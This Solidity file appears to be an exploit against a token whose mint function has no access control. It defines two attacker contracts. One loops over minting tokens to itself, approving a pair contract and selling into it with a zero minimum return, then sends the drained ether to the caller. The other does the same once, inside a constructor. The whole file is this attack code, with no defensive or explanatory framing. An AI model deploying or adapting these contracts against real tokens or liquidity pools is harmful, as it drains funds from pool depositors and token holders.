// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IMintable {
    function mint(address to, uint256 value) external returns (bool);

    function approve(address spender, uint256 value) external returns (bool);
}

interface IPair {
    function sellTokens(uint256 tokens, uint256 minEthers) external returns (uint256);
}

/// Mints to itself and sells.
contract MintAndSell {
    function run(IMintable token, IPair pair, uint256 amount, uint256 times) external {
        for (uint256 i = 0; i < times; i++) {
            token.mint(address(this), amount);
            token.approve(address(pair), amount);
            pair.sellTokens(amount, 0);
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

/// The same in one transaction, by the constructor.
contract MintAndSellAtOnce {
    constructor(IMintable token, IPair pair, uint256 amount) {
        token.mint(address(this), amount);
        token.approve(address(pair), amount);
        pair.sellTokens(amount, 0);
        payable(msg.sender).transfer(address(this).balance);
    }
}
